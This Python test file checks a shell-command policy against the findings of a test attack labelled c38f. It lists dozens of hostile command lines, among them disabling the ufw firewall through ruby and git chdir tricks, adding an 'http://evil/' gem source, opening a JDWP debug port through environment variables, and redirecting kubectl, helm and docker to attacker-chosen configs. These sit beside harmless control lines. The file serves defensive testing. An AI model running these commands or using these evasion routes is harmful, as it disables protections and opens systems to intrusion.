"""Attack c38f, findings 1, 2, 8, 11, 12 and 18: ruby's option clusters read as ruby reads them
(`-WC DIR`, `-KuC DIR`, `-0C/DIR`, `-Wx/DIR`) and a script through /proc/self/cwd in ruby's
moved folder; `gem sources --append/--prepend/-p`; JDWP servers through `JAVA_OPTS_APPEND` and
`MAVEN_ARGS`; bpython's and ptpython's entry modules as `-m`; programs' own settings variables
and options (KUBECONFIG, `--kubeconfig`, `svn --config-dir`, ...); git's chdirs (`-C`,
`--work-tree`, GIT_DIR) followed for an alias's code. Judged typed and as an exec command;
honest lines beside them still run."""

from tests.policy_rows import assert_held_or_runs
from tests.rows import each

UFW = "/usr/sbin/ufw disable"
ADD = "gem sources --add http://evil/"
SVC = "service ufw stop"
JDWP = "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005"
# (line, held): held means denied or confirmed typed and as an exec command; not held: allowed
ROWS = [
    # finding 1: ruby's letters with a short optional value read on in the same word
    *((f"{ruby} {opts} {rest}", True) for ruby in ("ruby", "jruby", "truffleruby")
      for opts in ("-WC /usr/bin", "-W2C /usr/bin", "-W0C/usr/bin", "-0C /usr/bin", "-00X /usr/bin",
                   "-KuC /usr/bin", "-Wx/usr/bin", "-SC /usr/bin", "-wKeC /usr/bin", "-0777C /usr/bin")
      for rest in (ADD,) if not (ruby == "jruby" and "X" in opts)),
    *((f"ruby {opts} {SVC}", True) for opts in ("-WC /usr/sbin", "-KuC /usr/sbin", "-0C/usr/sbin")),
    (f"ruby -C /usr/sbin /proc/self/cwd/{SVC}", True), (f"ruby -WC /usr/sbin /proc/self/cwd/{SVC}", True),
    (f"jruby -0C /usr/sbin {SVC}", True), (f"jruby -J-Duser.dir=/usr/sbin {SVC}", True),
    (f"ruby -C /usr/bin /proc/self/cwd/{ADD}", True),
    # honest: the same options before one's own script
    ("ruby -W0 x.rb", False), ("ruby -Ku x.rb", False), ("ruby -W:no-deprecated x.rb", False),
    ("ruby -WC /tmp x.rb", False), ("ruby -00 -ne 'print' x.txt", False), ("jruby -J-Xmx1g x.rb", False),
    # finding 2: RubyGems 3.7.2's `--append`, `-p/--prepend` add a source too
    *((f"gem {verb} {opts} http://evil/", True) for verb in ("sources", "so", "sou?") for opts in (
        "--append", "--app", "--ap", "--a", "--prepend", "--pre", "--p", "-p", "-lp", "-fp", "-cp")),
    *((f"gem sources {opts}", True) for opts in ("--app=http://evil/", "--prepend=http://evil/",
                                                  "-phttp://evil/", "-lphttp://evil/")),
    # honest: listing, updating, removing a source
    *((f"gem sources {opts}", False) for opts in ("-l", "--list", "-u", "--update", "-r http://old/",
                                                   "--remove http://old/", "-rp")),
    # finding 8: JVM option variables with a suffix, a build tool's words from the environment
    *((f"{var}={JDWP} {cmd}", True) for var, cmd in (
        ("JAVA_OPTS_APPEND", "run-java.sh"),
        ("JAVA_OPTS_APPEND", "/opt/jboss/container/java/run/run-java.sh"),
        ("JAVA_OPTIONS_EXTRA", "run.sh"), ("HADOOP_OPTS_EXTRA", "hdfs dfs -ls"),
        ("GRADLE_OPTS_APPEND", "gradle b"),
        ("JAVA_ARGS_APPEND", "run.sh"), ("MAVEN_ARGS=-DargLine", "mvn test"),
        ("MAVEN_ARGS=-Dmaven.surefire.debug", "mvn test"), ("MAVEN_CONFIG=-DargLine", "./mvnw test"))),
    (f"export MAVEN_ARGS=-DargLine={JDWP}; mvn test", True),
    (f"env MAVEN_ARGS=-DargLine={JDWP} mvn test", True),
    ("export JAVA_OPTS_EXTRA=-Dcom.sun.management.jmxremote.port=9010; java -jar x.jar", True),
    # honest: everyday options in the same variables
    ("MAVEN_ARGS='-B -ntp' mvn test", False), ("JAVA_OPTS_APPEND=-Xmx1g run-java.sh", False),
    ("ANT_ARGS=-quiet ant build", False), ("MAVEN_CONFIG=/home/u/.m2 mvn test", False),
    ("SPARK_OPTS_EXTRA=--fast make", False),
    # finding 11: the REPL programs' entry modules and commands run the script after them
    *((f"python3 -m {m} {UFW}", True) for m in (
        "bpython.curtsies", "bpython.cli", "bpython.urwid", "bpython.curtsies.__main__", "bpython.curtsie?",
        "ptpython.entry_points.run_ptpython", "ptpython.entry_points.run_ptipython",
        "IPython.terminal.ipapp")),
    *((f"{p} {UFW}", True) for p in ("bpython-curses", "bpython-urwid", "ptipython")),
    # honest: the REPLs alone or on one's own script
    ("python3 -m bpython.curtsies", False), ("python3 -m bpython.cli x.py", False),
    ("python3 -m ptpython.entry_points.run_ptpython", False), ("bpython-urwid", False),
    # finding 12: a program's own settings variable or option pointing at a file the line chose
    *((line, True) for line in (
        "KUBECONFIG=/tmp/k kubectl get pods", "export KUBECONFIG=/tmp/k; kubectl get pods",
        "env KUBECONFIG=/tmp/k kubectl get pods", "kubectl --kubeconfig=/tmp/k get pods",
        "kubectl --kubeconfig /tmp/k get pods", "kubectl get pods --kubeconfig /tmp/k",
        "KUBECONFIG=/tmp/k helm list", "helm --kubeconfig /tmp/k list", "HELM_PLUGINS=/tmp/p helm x",
        "HELM_CONFIG_HOME=/tmp/h helm list", "helm repo update --repository-config /tmp/r.yaml",
        "helm install x ./c --post-renderer /tmp/evil", "KUBECONFIG=/tmp/k k9s", "k9s --kubeconfig /tmp/k",
        "oc --kubeconfig /tmp/k get pods", "KUBECONFIG=/tmp/k stern x",
        "svn --config-dir /tmp/c update", "svn --config-dir=/tmp/c update", "svn update --config-dir /tmp/c",
        "gem --config-file /tmp/rc install x", "gem install x --config-file=/tmp/rc",
        "gem install x --conf /tmp/rc",
        "docker --config /tmp/d ps", "DOCKER_CONFIG=/tmp/d docker ps", "HOME=/tmp/h docker ps",
        "docker -H tcp://h:2375 --config=/tmp/d ps",
        "CLOUDSDK_CONFIG=/tmp/g gcloud compute instances list", "CLOUDSDK_PYTHON=/tmp/p gcloud info",
        "AWS_CONFIG_FILE=/tmp/a aws s3 ls", "TF_CLI_CONFIG_FILE=/tmp/t terraform plan", "vim -u /tmp/x f",
        "echo x > /root/.docker/config.json", "cp /tmp/x /root/.config/helm/repositories.yaml",
        "cp /tmp/p /usr/libexec/docker/cli-plugins/docker-x")),
    # honest: the same programs with their own settings, a vim without settings
    *((line, False) for line in (
        "kubectl get pods", "kubectl -n kube-system get pods", "helm list", "helm repo update", "k9s",
        "svn update", "gem install rails --conservative", "docker ps", "docker run --rm alpine true",
        "gcloud compute instances list", "vim -u NONE f", "cat /root/.docker/config.json",
        "docker run --rm myimg --config /etc/app.yaml", "docker compose up",
        # the distributions' own kubeconfigs
        "KUBECONFIG=/etc/rancher/k3s/k3s.yaml kubectl get nodes",
        "kubectl --kubeconfig ~/.kube/config get pods",
        "kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes",
        "export KUBECONFIG=/etc/kubernetes/admin.conf; helm list")),
    ("KUBECONFIG=/etc/rancher/k3s/k3s.yaml:/tmp/k kubectl get nodes", True),
    ("KUBECONFIG=/etc/kubernetes/../../tmp/x.conf kubectl get pods", True),
    # finding 18: git's chdirs (-C, --work-tree, GIT_WORK_TREE, the line's cd) before its code
    *((f"{git} -c {setting}", True) for git in (
        "git -C /usr/sbin", "git -C /usr -C sbin", "git -C /usr/sbin/x", "git -C /usr/sbi?",
        "git --work-tree=/usr/sbin", "git --work-tree /usr/sbin", "GIT_WORK_TREE=/usr/sbin git",
        "cd /usr/sbin && git", "cd /usr && git -C sbin", "git -C /tmp --work-tree=/usr/sbin")
      for setting in ("alias.x='!python3 ufw disable' x", "alias.x='!perl ufw disable' x",
                      "core.pager='python3 ufw disable' log", "alias.x='!python3 ../sbin/ufw disable' x")),
    ("git -C /etc/init.d -c alias.x='!set -- stop; . ./ufw' x", True),
    (f"git -C /usr/sbin -c alias.x='!sh {SVC}' x", True),
    # git's own code-running verbs in a folder below the repository's top
    ("git -C /usr/sbin/x rebase -x 'python3 ufw disable' HEAD~1", True),
    ("git -C /usr/sbin/x bisect run python3 ufw disable", True),
    ("git -C /srv/app submodule foreach 'git pull'", False),
    ("git -C /srv/app rebase -x 'make test' HEAD~3", False),
    # honest: aliases and pagers in one's own folders
    *((line, False) for line in (
        "git -c alias.x='!ls' x", "git -c core.pager=less log", "git -C /tmp -c alias.x='!ls' x",
        "cd /srv/app && git -c alias.t='!./run-tests.sh' t", "cd / && git -c alias.t='!./run-tests.sh' t",
        "git -C app -c alias.t='!make test' t", "git -C /srv/app log",
        "cd /tmp && git -c alias.st='!git status' st")),
]


@each(("line", "held"), ROWS)
def test_c38f_a_lines(default_policy, line: str, held: bool) -> None:
    assert_held_or_runs(default_policy, line, held)
